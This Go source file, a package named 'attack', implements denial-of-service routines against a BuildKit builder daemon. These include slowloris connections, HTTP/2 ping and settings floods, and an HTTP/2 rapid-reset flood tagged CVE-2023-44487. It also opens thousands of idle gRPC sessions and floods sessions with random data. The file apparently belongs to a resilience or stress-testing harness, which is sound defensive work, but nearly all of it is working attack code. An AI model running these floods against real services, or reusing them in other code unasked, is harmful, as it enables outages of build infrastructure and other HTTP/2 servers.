package attack

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/rand"
	"fmt"
	"net"
	"strings"
	"sync"
	"time"

	controlapi "github.com/moby/buildkit/api/services/control"
	"github.com/moby/buildkit/identity"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc/metadata"
)

// tarHeader is the head of a tar with one file of a size.
func tarHeader(size int64) []byte {
	var buf bytes.Buffer
	if err := tar.NewWriter(&buf).WriteHeader(&tar.Header{Name: "file", Mode: 0o644, Size: size, Format: tar.FormatPAX}); err != nil {
		panic(err) // of a header that is made here
	}
	return buf.Bytes()
}

// connect opens a connection on which nothing is sent.
func (s *Target) connect(ctx context.Context) (net.Conn, error) {
	network, address := "tcp", s.Addr
	if path, ok := strings.CutPrefix(s.Addr, "unix://"); ok {
		network, address = "unix", path
	}
	conn, err := new(net.Dialer).DialContext(ctx, network, address)
	if err != nil {
		return nil, fmt.Errorf("connecting to the builder: %w", err)
	}
	return conn, nil
}

// raw opens a connection on which HTTP/2 has begun, and reads what comes without an end.
func (s *Target) raw(ctx context.Context) (net.Conn, *http2.Framer, error) {
	conn, err := s.connect(ctx)
	if err != nil {
		return nil, nil, err
	}
	context.AfterFunc(ctx, func() { _ = conn.Close() })
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, nil, err
	}
	framer := http2.NewFramer(conn, conn)
	if err := framer.WriteSettings(); err != nil {
		return nil, nil, err
	}
	go func() {
		buf := make([]byte, 32<<10)
		for {
			if _, err := conn.Read(buf); err != nil {
				return
			}
		}
	}()
	return conn, framer, nil
}

// slowLoris opens connections and sends a byte of them at a time, or nothing.
func slowLoris(ctx context.Context, s *Target) error {
	var wg sync.WaitGroup
	for i := range 2000 {
		conn, err := s.connect(ctx)
		if err != nil {
			break // the builder takes no more: those that there are go on
		}
		wg.Go(func() {
			defer func() { _ = conn.Close() }()
			for j := 0; ctx.Err() == nil; j++ {
				if i%2 == 0 {
					if _, err := conn.Write([]byte{http2.ClientPreface[j%len(http2.ClientPreface)]}); err != nil {
						return
					}
				}
				select {
				case <-ctx.Done():
				case <-time.After(time.Second):
				}
			}
		})
	}
	wg.Wait()
	return nil //nolint:nilerr // see above
}

// flood opens connections and sends a frame on each as fast as it goes.
func flood(ctx context.Context, s *Target, frame func(f *http2.Framer, n uint32) error) {
	repeat(ctx, 4, func(ctx context.Context) {
		conn, framer, err := s.raw(ctx)
		if err != nil {
			return
		}
		defer func() { _ = conn.Close() }()
		for n := uint32(0); ctx.Err() == nil; n++ {
			if err := frame(framer, n); err != nil {
				return
			}
		}
	})
}

func pingFlood(ctx context.Context, s *Target) error {
	flood(ctx, s, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{1}) })
	return nil
}

func settingsFlood(ctx context.Context, s *Target) error {
	flood(ctx, s, func(f *http2.Framer, n uint32) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: n % (1 << 20)})
	})
	return nil
}

// rapidReset begins calls and resets each at once (CVE-2023-44487).
func rapidReset(ctx context.Context, s *Target) error {
	var head bytes.Buffer
	enc := hpack.NewEncoder(&head)
	for _, field := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", "/moby.buildkit.v1.Control/Status"}, {":authority", s.Addr},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	} {
		_ = enc.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true})
	}
	flood(ctx, s, func(f *http2.Framer, n uint32) error {
		stream := 2*n + 1
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head.Bytes(), EndHeaders: true}); err != nil {
			return err
		}
		return f.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
	return nil
}

// sessionAs opens a session with an id of its own.
func sessionAs(ctx context.Context, control controlapi.ControlClient) (controlapi.Control_SessionClient, error) {
	return control.Session(metadata.AppendToOutgoingContext(ctx,
		"x-docker-expose-session-uuid", identity.NewID(),
		"x-docker-expose-session-name", "",
		"x-docker-expose-session-grpc-method", "/moby.filesync.v1.Auth/Credentials"))
}

// idleSessions opens sessions by the thousand, and uses none.
func idleSessions(ctx context.Context, s *Target) error {
	conn, err := s.dial(ctx)
	if err != nil {
		return err
	}
	control := controlapi.NewControlClient(conn)
	for range 2000 {
		if _, err := sessionAs(ctx, control); err != nil {
			break // the builder takes no more: those that there are go on
		}
	}
	<-ctx.Done()
	return nil //nolint:nilerr // see above
}

// garbageSessions opens sessions and sends in them what is no HTTP/2, named by builds.
func garbageSessions(ctx context.Context, s *Target) error {
	conn, err := s.dial(ctx)
	if err != nil {
		return err
	}
	control := controlapi.NewControlClient(conn)
	repeat(ctx, 16, func(ctx context.Context) {
		ctx, cancel := context.WithTimeout(ctx, 2*time.Second)
		defer cancel()
		id := identity.NewID()
		stream, err := control.Session(metadata.AppendToOutgoingContext(ctx,
			"x-docker-expose-session-uuid", id, "x-docker-expose-session-grpc-method", fmt.Sprintf("/moby.filesync.v1.FileSync/%s", "DiffCopy")))
		if err != nil {
			return
		}
		go func() {
			_, _ = control.Solve(ctx, &controlapi.SolveRequest{Ref: identity.NewID(), Session: id, Frontend: "dockerfile.v0", Cache: &controlapi.CacheOptions{}})
		}()
		noise := make([]byte, 1<<20)
		_, _ = rand.Read(noise)
		for ctx.Err() == nil {
			if err := stream.Send(&controlapi.BytesMessage{Data: noise}); err != nil {
				return
			}
		}
	})
	return nil
}
